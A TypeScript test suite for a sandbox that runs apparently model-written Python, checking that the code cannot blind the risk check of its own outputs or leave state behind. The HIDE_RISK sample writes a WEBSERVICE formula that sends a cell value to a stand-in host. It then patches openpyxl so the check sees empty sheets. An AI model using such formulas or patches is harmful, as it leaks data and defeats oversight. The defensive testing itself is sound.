/**
 * Every run gets a fresh interpreter (SandboxClient's default policy), for real:
 * Pyodide in the locked-down Node child process. Code can change a library's
 * classes in ways no wall sees; here it tries to blind the check of its own
 * outputs (src/ui/output-risks.ts) and to leave a mark for the next run.
 * The same runs with one interpreter kept between runs show the harm is real
 * (a run sees what the one before changed), so these tests would fail if the
 * replacement stopped happening; our own checks get an untouched interpreter
 * under either policy, and the worker refuses them on a touched one.
 */
import { afterAll, describe, expect, it } from 'vitest';
import type { RunResult } from '../../workers/api';
import { prepareNodeSandbox, spawnNodeSandbox } from '../../workers/node/spawn-sandbox';
import { SandboxClient } from '../../src/sandbox/sandbox-client';
import { checkOutputs } from '../../src/conversation/output-check';
import { startedNodeSandbox } from '../helpers/node-sandbox';

const LONG = 180_000;

/** Writes a workbook with a WEBSERVICE formula, then makes every read-only sheet look empty. */
const HIDE_RISK = [
  'import openpyxl',
  'wb = openpyxl.Workbook()',
  `wb.active["A1"] = '=WEBSERVICE("https://prices.example/?q="&B1)'`,
  'wb.save("/output/hidden.xlsx")',
  'ro = openpyxl.load_workbook("/output/hidden.xlsx", read_only=True)',
  'type(ro.active).iter_rows = lambda self, *a, **k: iter(())',
  'print("tampered")',
].join('\n');

/** Two marks in the interpreter: a class attribute and an entry in csv's dialect registry. */
const LEAVE_MARK = [
  'import csv, openpyxl',
  'type(openpyxl.Workbook()).left_behind = "mark"',
  'csv.register_dialect("left-behind", delimiter=";")',
  'print("marked")',
].join('\n');

const READ_MARK = [
  'import csv, openpyxl',
  'try:',
  '    mark = openpyxl.Workbook().left_behind',
  'except AttributeError:',
  '    mark = "absent"',
  'print(mark, "left-behind" in csv.list_dialects())',
].join('\n');

const clients: SandboxClient[] = [];
afterAll(() => clients.forEach((c) => c.dispose()));

async function sandbox(freshPythonPerRun: boolean): Promise<SandboxClient> {
  const client = freshPythonPerRun
    ? await startedNodeSandbox()
    : new SandboxClient({ connect: spawnNodeSandbox, startOptions: (await prepareNodeSandbox()).startOptions, policy: { freshPythonPerRun: false } });
  clients.push(client);
  return client;
}

function stdoutOf(result: RunResult): string {
  if (!result.ok) throw new Error(`${result.error.kind}: ${result.error.message}`);
  return result.stdout.trim();
}

describe('a fresh interpreter for every run (the default)', () => {
  it('a run cannot blind the check of its own outputs', async () => {
    const client = await sandbox(true);
    const run = await client.run({ code: HIDE_RISK, inputs: [] });
    expect(stdoutOf(run)).toBe('tampered');
    const began = Date.now();
    const risks = await checkOutputs(client, run.ok ? run.outputs : []);
    console.log(`check after a run, waiting for the fresh interpreter: ${Date.now() - began} ms`);
    expect(risks).toEqual({ state: 'checked', byFile: { 'hidden.xlsx': [expect.stringMatching(/^1 formula in hidden\.xlsx may reach the network.*Sheet!A1 \(WEBSERVICE\)/)] } });
  }, LONG);

  it('a run leaves nothing in the interpreter for the next one', async () => {
    const client = await sandbox(true);
    expect(stdoutOf(await client.run({ code: LEAVE_MARK, inputs: [] }))).toBe('marked');
    expect(stdoutOf(await client.run({ code: READ_MARK, inputs: [] }))).toBe('absent False');
  }, LONG);

  it('a run refused by the pre-check ran nothing, so the interpreter is kept', async () => {
    const events: string[] = [];
    const { startOptions } = await prepareNodeSandbox();
    const client = new SandboxClient({ connect: spawnNodeSandbox, startOptions, onEvent: (e) => events.push(e.type) });
    clients.push(client);
    const starts = (): number => events.filter((e) => e === 'starting').length;
    const refused = await client.run({ code: 'import socket', inputs: [] });
    expect(refused.ok || refused.error.kind).toBe('precheck');
    expect(starts()).toBe(1);
    expect(stdoutOf(await client.run({ code: 'print(1)', inputs: [] }))).toBe('1');
    // The first real run had the interpreter the refused one left; the next gets a fresh one, started at once.
    expect(starts()).toBe(2);
    // Routine replacements are not reported as restarts after a failure.
    expect(events).not.toContain('restarting');
  }, LONG);
});

describe('one interpreter kept between runs (freshPythonPerRun: false)', () => {
  it('runs share the interpreter (the marks are still there), but our own check still gets an untouched one', async () => {
    const client = await sandbox(false);
    expect(stdoutOf(await client.run({ code: LEAVE_MARK, inputs: [] }))).toBe('marked');
    expect(stdoutOf(await client.run({ code: READ_MARK, inputs: [] }))).toBe('mark True');
    // The tampering is real in this interpreter: the next run's own read of the sheet finds nothing ...
    const run = await client.run({ code: HIDE_RISK, inputs: [] });
    expect(stdoutOf(run)).toBe('tampered');
    const blinded = await client.run({ code: 'import openpyxl\nprint(len(list(openpyxl.load_workbook("/input/hidden.xlsx", read_only=True).active.iter_rows())))', inputs: run.ok ? run.outputs : [] });
    expect(stdoutOf(blinded)).toBe('0');
    // ... while the check of the outputs runs our own Python on a replaced interpreter and sees the formula.
    expect(await checkOutputs(client, run.ok ? run.outputs : [])).toEqual({ state: 'checked', byFile: { 'hidden.xlsx': [expect.stringMatching(/^1 formula in hidden\.xlsx may reach the network/)] } });
  }, LONG);
});

describe('the worker itself refuses our own Python after model code ran in it', () => {
  it('answers a profile or a workbook call on a touched interpreter with an error, never with a possibly tampered result', async () => {
    const { startOptions } = await prepareNodeSandbox();
    const connection = await spawnNodeSandbox();
    try {
      expect((await connection.api.start(startOptions)).ok).toBe(true);
      const run = await connection.api.run({ code: HIDE_RISK, inputs: [] });
      expect(stdoutOf(run)).toBe('tampered');
      const outputs = run.ok ? run.outputs : [];
      const inspected = await connection.api.inspectWorkbooks(outputs);
      expect(inspected).toMatchObject({ ok: false, error: { kind: 'internal', message: expect.stringMatching(/has run model code/) } });
      const profiled = await connection.api.profile(outputs);
      expect(profiled).toMatchObject({ ok: false, error: { kind: 'internal' } });
    } finally {
      connection.terminate();
    }
  }, LONG);
});
